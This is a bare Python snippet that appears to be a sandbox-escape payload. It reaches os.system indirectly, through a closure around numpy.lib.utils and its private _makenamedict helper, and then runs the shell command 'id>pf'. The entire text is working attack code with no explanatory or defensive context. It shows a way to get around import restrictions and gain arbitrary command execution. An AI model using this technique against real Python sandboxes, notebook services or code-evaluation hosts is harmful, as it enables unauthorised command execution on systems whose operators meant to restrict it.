def my_clo(x):

    def f():
        return x
    return f
import numpy.lib.utils as u
d, names = my_clo(u)()._makenamedict('os')
[x for x in [d, *names] if 'os' in x][0]['os']['system']('id>pf')
